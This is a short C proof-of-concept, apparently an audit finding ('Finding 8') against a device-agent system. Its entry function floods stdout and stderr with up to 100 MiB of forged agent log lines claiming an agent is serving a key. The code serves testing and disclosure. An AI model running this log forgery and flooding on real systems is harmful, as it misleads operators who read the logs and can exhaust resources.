/* Finding 8: floods stdout and stderr with 100 MiB of forged agent log lines (for at most 3 s).
   Returns 0. */
#include <stdint.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int32_t entry(void* const* args) {
  (void)args;
  static const char line[] = "[device-agent] [info] FORGED-LOG-LINE: agent 'board' serving key 'local-cpu'\n";
  char block[64 << 10];
  size_t used = 0;
  while (used + sizeof line < sizeof block) {
    memcpy(block + used, line, sizeof line - 1);
    used += sizeof line - 1;
  }
  time_t start = time(0);
  for (long written = 0; written < (100l << 20) && time(0) - start < 3;) {
    ssize_t a = write(2, block, used);
    ssize_t b = write(1, block, used);
    written += (a > 0 ? a : 0) + (b > 0 ? b : 0);
    if (a <= 0 && b <= 0) break;
  }
  return 0;
}
